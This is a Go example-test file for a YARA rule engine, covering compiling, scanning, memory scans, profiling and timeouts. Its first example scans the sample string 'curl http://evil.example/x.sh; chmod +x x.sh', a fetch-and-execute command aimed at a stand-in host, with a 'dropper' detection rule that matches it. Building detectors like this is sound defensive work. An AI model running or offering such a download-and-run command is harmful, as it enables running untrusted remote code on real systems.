package yara_test

import (
	"bytes"
	"cmp"
	"context"
	"errors"
	"fmt"
	"os"
	"slices"
	"sync"
	"sync/atomic"
	"testing/fstest"

	"github.com/besra-hunt/besra/yara"
	"github.com/besra-hunt/besra/yara/diag"
	"github.com/besra-hunt/besra/yara/modules/standard"
)

func Example() {
	rules, err := yara.Compile(`
		rule dropper : trojan {
			meta:
				author = "a. n. analyst"
				score = 80
			strings:
				$url = /https?:\/\/[a-z.]+\/x\.sh/
				$run = "chmod +x"
			condition:
				$url and $run
		}`)
	if err != nil {
		fmt.Println(err)
		return
	}
	scanner := rules.NewScanner()
	results, err := scanner.Scan(context.Background(), []byte("curl http://evil.example/x.sh; chmod +x x.sh"))
	if err != nil {
		fmt.Println(err)
		return
	}
	for rule := range results.Matching() {
		fmt.Println(rule.Namespace(), rule.Name(), rule.Tags())
		for key, value := range rule.Meta() {
			fmt.Println("  ", key, "=", value)
		}
		for p := range rule.Patterns() {
			for m := range p.Matches() {
				fmt.Println("  ", p.ID(), "at", m.Offset, "length", m.Length)
			}
		}
	}
	// Output:
	// default dropper [trojan]
	//    author = a. n. analyst
	//    score = 80
	//    $url at 5 length 24
	//    $run at 31 length 8
}

// A compiler keeps the rules that are sound and reports the others.
func ExampleCompiler() {
	c := yara.NewCompiler(yara.WithModules(standard.Modules()...))
	c.AddSource(yara.Source{Namespace: "team", Origin: "good.yar", Text: []byte(`
		import "hash"
		rule empty { condition: hash.md5(0, filesize) == "d41d8cd98f00b204e9800998ecf8427e" }`)})
	c.AddSource(yara.Source{Namespace: "team", Origin: "bad.yar", Text: []byte(
		`rule broken { condition: $nowhere }`)})
	rules, diags := c.Build()
	fmt.Println("errors:", diags.HasErrors())
	_ = diag.Render(os.Stdout, diags, c.Lookup, diag.Options{})
	for rule := range rules.All() {
		fmt.Println("kept:", rule.Name())
	}
	// Output:
	// errors: true
	// error[unknown_pattern]: unknown pattern `$nowhere`
	//  --> bad.yar:1:26
	//   |
	// 1 | rule broken { condition: $nowhere }
	//   |                          ^^^^^^^^ this pattern is not declared in the `strings` section
	// kept: empty
}

// Compiled rules are written once and loaded in a small part of the time.
func ExampleReadRules() {
	rules, err := yara.Compile(`rule tiny { condition: filesize < 100 }`)
	if err != nil {
		fmt.Println(err)
		return
	}
	var file bytes.Buffer
	if _, err := rules.WriteTo(&file); err != nil {
		fmt.Println(err)
		return
	}
	again, err := yara.ReadRules(bytes.NewReader(file.Bytes()))
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println(again.Stats().Rules)
	damaged := file.Bytes()
	damaged[file.Len()/2] ^= 1
	_, err = yara.ReadRules(bytes.NewReader(damaged))
	fmt.Println(err)
	// Output:
	// 1
	// yara: compiled rules file is damaged: wrong checksum
}

// Rules can be listed without a scan.
func ExampleRules_All() {
	rules, err := yara.Compile(`
		private rule base { condition: filesize > 0 }
		rule dropper : trojan windows {
			meta: author = "a. n. analyst"
			strings: $a = "text" $b = { 4D 5A } $c = /reg(exp|ular)/ private
			condition: base and any of them
		}`)
	if err != nil {
		fmt.Println(err)
		return
	}
	for rule := range rules.All() {
		fmt.Println(rule.Name(), rule.Tags(), rule.Private())
		for p := range rule.Patterns() {
			fmt.Println("  ", p.ID(), p.Kind(), p.Private())
		}
	}
	// Output:
	// base [] true
	// dropper [trojan windows] false
	//    $a text false
	//    $b hex false
	//    $c regexp true
}

// Rules are shared, and each goroutine has a scanner of its own.
func ExampleRules_NewScanner() {
	rules, err := yara.Compile(`rule needle { strings: $a = "needle" condition: $a }`)
	if err != nil {
		fmt.Println(err)
		return
	}
	targets := make(chan []byte)
	var found atomic.Int64
	var workers sync.WaitGroup
	for range 4 {
		scanner := rules.NewScanner()
		workers.Go(func() {
			for data := range targets {
				if results, err := scanner.Scan(context.Background(), data); err == nil {
					found.Add(int64(results.Len()))
				}
			}
		})
	}
	for i := range 100 {
		targets <- fmt.Appendf(nil, "%d needles", i%2)
	}
	close(targets)
	workers.Wait()
	fmt.Println(found.Load())
	// Output: 100
}

// A scan ends with its context, wherever it is. What was found until then is
// in the results.
func ExampleScanner_Scan_cancelled() {
	rules, err := yara.Compile(`
		rule quick { condition: true }
		rule slow { condition: for all i in (0..1000000000000) : (i >= 0) }`)
	if err != nil {
		fmt.Println(err)
		return
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err = rules.NewScanner().Scan(ctx, nil)
	fmt.Println(errors.Is(err, context.Canceled))
	// Output: true
}

func ExampleMaxMatches() {
	rules, err := yara.Compile(`rule many { strings: $a = "a" condition: #a > 2 }`)
	if err != nil {
		fmt.Println(err)
		return
	}
	for _, limit := range []int{2, 5} {
		results, err := rules.NewScanner(yara.MaxMatches(limit)).Scan(context.Background(), []byte("aaaaaaaaaa"))
		if err != nil {
			fmt.Println(err)
			return
		}
		fmt.Println(limit, results.Len())
		for rule := range results.All() {
			for p := range rule.Patterns() {
				fmt.Println("  ", p.ID(), p.Count())
			}
		}
	}
	// Output:
	// 2 0
	//    $a 2
	// 5 1
	//    $a 5
}

// A profile tells which rules and patterns the time went into.
func ExampleProfiling() {
	rules, err := yara.Compile(`
		rule loop { condition: for all i in (0..100000) : (i >= 0) }
		rule text { strings: $a = "needle" condition: $a }
		rule idle { strings: $a = "not there" condition: $a }`)
	if err != nil {
		fmt.Println(err)
		return
	}
	scanner := rules.NewScanner(yara.Profiling())
	for range 3 {
		if _, err := scanner.Scan(context.Background(), []byte("a needle")); err != nil {
			fmt.Println(err)
			return
		}
	}
	profile := scanner.Profile()
	for _, r := range profile.Rules() {
		fmt.Println(r.Rule.Name(), r.Evaluated, r.Total() > 0)
	}
	for _, p := range profile.Patterns() {
		fmt.Println(p.Pattern.ID(), "of", p.Pattern.Rule().Name(), p.Candidates > 0)
	}
	// Output:
	// loop 3 true
	// text 3 true
	// $a of text true
}

// External variables are declared when rules are compiled, and set for each
// target.
func ExampleScanner_SetExternal() {
	rules, err := yara.Compile(`rule script { condition: filename endswith ".ps1" }`,
		yara.Define("filename", ""))
	if err != nil {
		fmt.Println(err)
		return
	}
	scanner := rules.NewScanner()
	for _, name := range []string{"a.txt", "b.ps1"} {
		if err := scanner.SetExternal("filename", name); err != nil {
			fmt.Println(err)
			return
		}
		results, err := scanner.Scan(context.Background(), nil)
		if err != nil {
			fmt.Println(err)
			return
		}
		fmt.Println(name, results.Len())
	}
	// Output:
	// a.txt 0
	// b.ps1 1
}

func ExampleTimeout() {
	rules, err := yara.Compile(`rule slow { condition: for all i in (0..1000000000000) : (i >= 0) }`)
	if err != nil {
		fmt.Println(err)
		return
	}
	_, err = rules.NewScanner(yara.Timeout(1)).Scan(context.Background(), nil)
	fmt.Println(errors.Is(err, yara.ErrTimeout))
	// Output: true
}

func ExampleConsole() {
	rules, err := yara.Compile(`
		import "console"
		rule log { condition: console.log("size: ", filesize) and console.hex(uint16(0)) }`,
		yara.WithModules(standard.Modules()...))
	if err != nil {
		fmt.Println(err)
		return
	}
	scanner := rules.NewScanner(yara.Console(func(line string) { fmt.Println(line) }))
	if _, err := scanner.Scan(context.Background(), []byte("MZ")); err != nil {
		fmt.Println(err)
	}
	// Output:
	// size: 2
	// 0x5a4d
}

// Memory is scanned by address: regions that touch are one run of bytes.
func ExampleScanner_ScanMemory() {
	rules, err := yara.Compile(`rule loader { strings: $url = "http://evil.example" condition: $url in (0x7000..0x8fff) }`)
	if err != nil {
		fmt.Println(err)
		return
	}
	memory := yara.Blocks{
		{Base: 0x400000, Data: []byte("code")},
		{Base: 0x7ff8, Data: []byte("http://e")},
		{Base: 0x8000, Data: []byte("vil.example/x")},
	}
	slices.SortFunc(memory, func(a, b yara.Block) int { return cmp.Compare(a.Base, b.Base) })
	results, err := rules.NewScanner().ScanMemory(context.Background(), memory)
	if err != nil {
		fmt.Println(err)
		return
	}
	for rule := range results.Matching() {
		for p := range rule.Patterns() {
			for m := range p.Matches() {
				fmt.Printf("%s %s at %#x, %d bytes\n", rule.Name(), p.ID(), m.Offset, m.Length)
			}
		}
	}
	fmt.Println("could not be read:", len(results.Gaps()))
	// Output:
	// loader $url at 0x7ff8, 19 bytes
	// could not be read: 0
}

func ExampleIncludesFS() {
	files := fstest.MapFS{"lib/base.yar": {Data: []byte(`private rule small { condition: filesize < 100 }`)}}
	rules, err := yara.Compile(`include "lib/base.yar" rule tiny { condition: small }`, yara.IncludesFS(files))
	if err != nil {
		fmt.Println(err)
		return
	}
	results, err := rules.NewScanner().Scan(context.Background(), []byte("x"))
	if err != nil {
		fmt.Println(err)
		return
	}
	for rule := range results.Matching() {
		fmt.Println(rule.Name())
	}
	// Output: tiny
}
